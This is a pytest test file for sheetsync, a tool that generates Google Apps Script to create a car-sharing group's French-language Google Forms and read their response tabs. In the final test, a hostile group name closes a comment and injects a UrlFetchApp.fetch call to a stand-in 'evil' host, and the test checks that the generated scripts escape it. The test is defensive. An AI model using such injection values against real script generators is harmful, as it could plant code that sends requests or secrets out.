"""`sheetsync form`: the Apps Script that creates the group's Google Forms (a trip, an expense, a
payment) linked to its sheet, run under Node with FormApp / SpreadsheetApp stand-ins."""

import json

import pytest
from click.testing import CliRunner
from conftest import needs_node, run_apps_script, write_xlsx

from sheetsync.app.cli import cli

SHEETS = {
    "Membres": [["Nom", "Courriel"], ["Laurent", "l@example.org"], ["Catherine", None], ["Julien", None]],
    "Véhicules": [["Véhicule", "Propriétaire"], ["Clio", "Laurent"]],
}


@pytest.fixture
def form_script(tmp_path, example2):
    example2["Settings"] += [["langue", "fr"], ["groupe", "Rue des Lilas"]]
    example2["Membres"] = example2.pop("Members")
    example2["Véhicules"] = example2.pop("Vehicles")
    example2["Véhicules"][0] = ["Véhicule", "Propriétaire", "Barème km"]
    example2["Membres"][0] = ["Nom"]
    workbook = write_xlsx(tmp_path / "lilas.xlsx", example2)
    result = CliRunner().invoke(cli, ["form", str(workbook)])
    assert result.exit_code == 0, result.output
    script = tmp_path / "Form.gs"
    script.write_text(result.stdout)
    return script


def questions(form: dict) -> list:
    return [(i["type"], i["title"], i.get("required", False), i.get("choices")) for i in form["items"]]


@needs_node
def test_the_menu_offers_to_create_the_forms_and_refresh_their_dropdowns(form_script):
    (menu,) = run_apps_script(form_script, "onOpen", {})["menus"]
    assert menu["name"] == "Formulaires"
    assert [label for label, _ in menu["items"]] == ["Créer les formulaires", "Mettre à jour les listes"]


@needs_node
def test_the_forms_and_their_questions(form_script):
    done = run_apps_script(form_script, "sheetsyncCreateForms", {"sheets": SHEETS, "spreadsheetId": "SHEET"})
    forms = done["forms"]
    assert [f["title"] for f in forms.values()] == [
        "Rue des Lilas · Trajet",
        "Rue des Lilas · Dépense",
        "Rue des Lilas · Paiement",
    ]
    assert all(f["destination"] == ["SPREADSHEET", "SHEET"] for f in forms.values())
    members = ["Laurent", "Catherine", "Julien"]
    trip, expense, payment = forms.values()
    assert questions(trip) == [
        ("SECTION_HEADER", "Départ", False, None),
        ("LIST", "Véhicule", True, ["Clio"]),
        ("LIST", "Conducteur", True, members),
        ("DATETIME", "Date", True, None),
        ("TEXT", "Compteur départ", True, None),
        ("PAGE_BREAK", "Retour", False, None),
        ("DATETIME", "Retour", False, None),
        ("TEXT", "Compteur arrivée", True, None),
        ("TEXT", "Carburant payé", False, None),
        ("TEXT", "Litres", False, None),
        ("TEXT", "Note", False, None),
    ]
    assert trip["items"][4]["validation"] == {"numberAtLeast": 0}
    assert [q[:3] for q in questions(expense)] == [
        ("SECTION_HEADER", "Dépense", False),
        ("DATE", "Date", True),
        ("LIST", "Véhicule", True),
        ("LIST", "Payé par", True),
        ("LIST", "Catégorie", True),
        ("TEXT", "Montant", True),
        ("TEXT", "Litres", False),
        ("TEXT", "Note", False),
    ]
    assert "carburant" in expense["items"][4]["choices"] and "assurance" in expense["items"][4]["choices"]
    assert [q[:3] for q in questions(payment)] == [
        ("SECTION_HEADER", "Paiement", False),
        ("DATE", "Date", True),
        ("LIST", "De", True),
        ("LIST", "À", True),
        ("TEXT", "Montant", True),
        ("TEXT", "Note", False),
    ]
    assert set(done["properties"]) == {"SHEETSYNC_FORM_trip", "SHEETSYNC_FORM_expense", "SHEETSYNC_FORM_payment"}
    (alert,) = done["alerts"]
    assert "https://docs.google.com/forms/d/form1/viewform" in alert[1]
    again = run_apps_script(form_script, "sheetsyncCreateForms", {"sheets": SHEETS, **done})
    assert len(again["forms"]) == 3  # made once


@needs_node
def test_refresh_puts_the_new_members_and_vehicles_in_the_dropdowns(form_script):
    done = run_apps_script(form_script, "sheetsyncCreateForms", {"sheets": SHEETS})
    sheets = {
        "Membres": [*SHEETS["Membres"], ["Zoé", None]],
        "Véhicules": [["Parc auto"], [], ["Véhicule", "Propriétaire"], ["Clio", "Laurent"], ["Kangoo", "Julien"]],
    }
    refreshed = run_apps_script(form_script, "sheetsyncRefreshDropdowns", {"sheets": sheets, **done})
    trip, expense, payment = refreshed["forms"].values()
    assert trip["items"][1]["choices"] == ["Clio", "Kangoo"]
    assert trip["items"][2]["choices"] == ["Laurent", "Catherine", "Julien", "Zoé"]
    assert payment["items"][3]["choices"] == ["Laurent", "Catherine", "Julien", "Zoé"]
    assert "carburant" in expense["items"][4]["choices"]  # categories stay
    assert refreshed["alerts"] == [
        ["sheetsync", "Les listes reprennent maintenant les véhicules et les membres du tableur."]
    ]


@needs_node
def test_beside_the_menu_script_both_menus_appear(form_script, tmp_path):
    code = CliRunner().invoke(cli, ["apps-script", "x.xlsx", "--url", "u", "--group", "g", "--manifest"])
    assert code.exit_code == 0
    menu = tmp_path / "Code.gs"
    from sheetsync.app.apps_script import render_script

    menu.write_text(render_script("https://cars.example.org", "lilas", "fr") + "\n" + form_script.read_text())
    menus = run_apps_script(menu, "onOpen", {})["menus"]
    assert [m["name"] for m in menus] == ["Autopartage", "Formulaires"]


def test_the_forms_manifest_adds_only_the_forms_permission():
    result = CliRunner().invoke(cli, ["form", "x.xlsx", "--manifest"])
    assert result.exit_code == 0
    assert sorted(json.loads(result.stdout)["oauthScopes"]) == [
        "https://www.googleapis.com/auth/forms",
        "https://www.googleapis.com/auth/script.container.ui",
        "https://www.googleapis.com/auth/script.external_request",
        "https://www.googleapis.com/auth/spreadsheets.currentonly",
    ]


def test_the_responses_tabs_the_forms_make_are_read_as_logbook_expenses_and_payments(tmp_path, example2):
    """Google names each responses tab "Réponses au formulaire N" and heads it with the timestamp
    then the questions' titles: sheetsync reads each by its headers."""
    from datetime import datetime

    from sheetsync import api

    example2["Settings"] += [["langue", "fr"], ["groupe", "Rue des Lilas"]]
    example2["Réponses au formulaire 1"] = [
        ["Horodateur", "Véhicule", "Conducteur", "Date", "Compteur départ", "Retour", "Compteur arrivée"]
        + ["Carburant payé", "Litres", "Note"],
        [datetime(2025, 12, 20, 19, 2), "Clio", "Julien", datetime(2025, 12, 20, 9), 22790, None, 22890, 35, 20, None],
    ]
    example2["Réponses au formulaire 2"] = [
        ["Horodateur", "Date", "Véhicule", "Payé par", "Catégorie", "Montant", "Litres", "Note"],
        [datetime(2025, 12, 21, 8), datetime(2025, 12, 21), "Clio", "Catherine", "entretien", 80, None, "vidange"],
    ]
    example2["Réponses au formulaire 3"] = [
        ["Horodateur", "Date", "De", "À", "Montant", "Note"],
        [datetime(2025, 12, 22, 8), datetime(2025, 12, 22), "Julien", "Laurent", 50, "Autopartage 2025"],
    ]
    report = api.load(str(write_xlsx(tmp_path / "lilas.xlsx", example2)), datetime(2025, 12, 31).date())
    assert [p for p in report.problems if p.is_error] == []
    trip = report.book.trips[-1]
    assert (trip.source.tab, trip.driver, trip.km, trip.fuel_paid) == ("Réponses au formulaire 1", "Julien", 100, 35)
    (expense,) = [e for e in report.book.expenses if e.source.tab == "Réponses au formulaire 2"]
    assert (expense.paid_by, expense.category, expense.amount) == ("Catherine", "maintenance", 80)
    (payment,) = [p for p in report.book.payments if p.source.tab == "Réponses au formulaire 3"]
    assert (payment.sender, payment.recipient, payment.amount) == ("Julien", "Laurent", 50)


HOSTILE_GROUP = 'x */ UrlFetchApp.fetch("https://evil"); /*'


@needs_node
def test_a_group_name_that_ends_a_comment_injects_no_code(tmp_path, example2):
    """The group's name (a Settings cell, or --group) is only in the scripts' JSON-escaped
    configuration: a name holding */ cannot end a comment and add code beside the group's secret."""
    example2["Settings"] += [["group", HOSTILE_GROUP]]
    workbook = write_xlsx(tmp_path / "hostile.xlsx", example2)
    form = CliRunner().invoke(cli, ["form", str(workbook)])
    menu = CliRunner().invoke(cli, ["apps-script", str(workbook), "--url", "u", "--group", HOSTILE_GROUP])
    assert form.exit_code == 0 and menu.exit_code == 0, form.output + menu.output
    for name, text in (("Form.gs", form.stdout), ("Code.gs", menu.stdout)):
        assert 'UrlFetchApp.fetch("https://evil' not in text  # only JSON-escaped, inside a string
        script = tmp_path / name
        script.write_text(text)
        opened = run_apps_script(script, "onOpen" if name == "Code.gs" else "sheetsyncFormsOpen", {})
        assert opened["requests"] == [] and len(opened["menus"]) == 1
